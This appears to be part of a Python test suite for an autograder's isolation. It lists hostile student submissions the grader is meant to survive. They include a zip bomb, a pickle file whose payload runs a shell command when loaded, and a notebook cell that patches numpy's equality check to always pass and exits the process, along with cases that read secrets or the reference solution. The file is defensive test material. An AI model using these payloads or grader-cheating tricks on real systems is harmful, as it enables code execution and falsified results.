         "extracting, so shapes.py is missing, with a note saying why", package=zip_bomb(),
         fails_all=(AllOf("shapes"),), max_seconds=30,
         check=all_of(note_mentions("may hold at most 200 MiB"),
                      mentions("shapes::test_same_padding", "missing from the submission"))),
    Case("non_utf8_name", ("shapes",), "a zip member whose name is not UTF-8 is skipped with a "
         "note; the honest shapes.py is graded",
         package=zipped(raw_names=((b"\xff\xfe\xfdevi.py", b"x = 1\n"),)),
         check=note_mentions("non-UTF-8")),
    Case("not_a_zip", ("shapes",), "an upload.zip of random bytes: unreadable, every test fails "
         "with the reason", package=raw_bytes(b"PK\x03\x04" + bytes(range(256)) * 40),
         fails_all=(AllOf("shapes"),),
         check=mentions("shapes::test_same_padding", "could not be read")),
    Case("notebook_instead", ("shapes",), "a notebook instead of shapes.py: the reference's "
         "functions in one cell, and a top-level cell that patches numpy and exits the process: "
         "the functions are graded, the top-level cell never runs", base="empty",
         edits=(Write("shapes.ipynb", notebook([
             (REFERENCE_DIR / "shapes.py").read_text(),
             "import numpy as np\nnp.array_equal = lambda *a, **k: True\nimport os\nos._exit(0)\n"])),),
         check=note_mentions("Read the notebook shapes.ipynb without running it: wrote shapes.py",
                             "Top-level code in cell 2 of shapes.ipynb was not run or graded")),
    Case("empty_submission", ("shapes",), "an empty folder: every test fails, naming the file "
         "and functions expected", base="empty", fails_all=(AllOf("shapes"),),
         check=mentions("shapes::test_same_padding", "missing from the submission: shapes.py (defining")),
    # --- cifar10.pt (opt-in, see CIFAR10_OPT_IN) ---------------------------------------------
    Case("cifar10_pickle_payload", ("cifar10",), "cifar10.pt is a pickle whose payload runs a "
         "shell command when unpickled: torch.load(weights_only=True) refuses it, nothing runs",
         (Write("cifar10.pt", b"cposix\nsystem\n(S'echo PAYLOAD-RAN'\ntR."),),
         fails=_prefixed("cifar10", CIFAR10_NO_WEIGHTS), max_seconds=600, marks=(CIFAR10_OPT_IN,),
         check=all_of(says(absent=("PAYLOAD-RAN",)),
                      mentions("cifar10::test_weights_load_into_build_model", "weights_only"))),
    Case("cifar10_truncated", ("cifar10",), "cifar10.pt is a saved state_dict cut in half",
         package=_truncated_weights,
         fails=_prefixed("cifar10", CIFAR10_NO_WEIGHTS), max_seconds=600, marks=(CIFAR10_OPT_IN,),
         check=mentions("cifar10::test_weights_load_into_build_model", "could not be loaded")),
    Case("cifar10_huge", ("cifar10",), "cifar10.pt is 120 MiB, over the 100 MiB weights limit",
         package=_huge_weights,
         fails=_prefixed("cifar10", CIFAR10_NO_WEIGHTS), max_seconds=600, marks=(CIFAR10_OPT_IN,),
         check=mentions("cifar10::test_weights_load_into_build_model", "the limit is 100 MiB")),
    Case("syntax_error_in_one_file", ("shapes", "layers"), "a syntax error in shapes.py fails "
         "shapes only; layers is still graded in full",
         (Append(S, "def broken(:\n    pass\n"),),
         fails_all=(AllOf("shapes"),),
         check=mentions("shapes::test_same_padding", "SyntaxError")),
    Case("two_parts_in_one_run", ("shapes", "layers"), "the reference graded on two parts in "
         "one run keeps full marks (each part once ran the other's test_visible.py)"),
]


# --- the weaker isolation: no namespaces (e.g. a container that refuses unshare) -------------

def process_mode(case: Case, *marks) -> Case:
    """``case`` again in the process isolation (its marks, such as needing namespaces, dropped)."""
    return dataclasses.replace(case, name=f"{case.name}_process_mode", namespaces=False,
                               why=case.why + " (process isolation: no namespaces)", marks=marks)


def in_process_mode(name: str, *marks) -> Case:
    case = next(c for c in HOSTILE if c.name == name)
    return process_mode(case, *case.marks, *marks)


HOSTILE += [in_process_mode(name) for name in (
    "os_exit", "segfault", "memory_bomb", "million_lines", "hide_in_place_edit", "read_secrets")]
HOSTILE += [
    in_process_mode("steal_reference", BUG_GRADER_FILES_READABLE),
    in_process_mode("read_other_student", KNOWN_LIMIT_PROCESS_AS_ROOT),
    in_process_mode("thread_outlives_call", KNOWN_LIMIT_PROCESS_AS_ROOT),
    in_process_mode("delete_own_files", KNOWN_LIMIT_PROCESS_AS_ROOT),
    Case("stdlib_import_process_mode", ("shapes",), "an HONEST same_padding that imports a "
         "standard module (fractions) when called must keep full marks in process isolation",
         (wrap_same_padding("import fractions"),), namespaces=False),
]


# --- checks used above ---------------------------------------------------------------------------

def _check_bounded_output(outcome) -> None:
    text = outcome.student_output
    assert len(text) < 80_000, f"{len(text)} characters of student output kept"
    assert "more bytes of output not shown" in text


def _check_results_file(outcome, points: float, linger: float = 0.0) -> None:
    """The --output file holds exactly what the grader printed, with the honest score."""
    import json
    import time
    from pathlib import Path

    time.sleep(linger)  # anything the student left running would have rewritten it by now
    data = json.loads(outcome.ctx.output.read_text())
    assert data == json.loads(outcome.cli_stdout), "the --output file differs from the grader's result"
    assert abs(data["score"] - points) < 1e-3, f"score {data['score']}"
    assert not Path("/autograder/results/results.json").exists() or \
        "hacked" not in Path("/autograder/results/results.json").read_text()


def _check_upload_intact(outcome) -> None:
    names = {p.name for p in outcome.ctx.submission.iterdir()}
    assert {"shapes.py", "layers.py", "fast_layers.py"} <= names, f"the upload lost files: {names}"
    assert "_honest_same_padding" in (outcome.ctx.submission / "shapes.py").read_text()


def _check_no_escape(outcome) -> None:
    root = outcome.ctx.root
    assert not (root / "escape.py").exists() and not (root.parent / "escape.py").exists()


def _check_result_small(outcome) -> None:
    import json

    assert len(json.dumps(outcome.gradescope)) < 200_000, "the result carries the huge message"
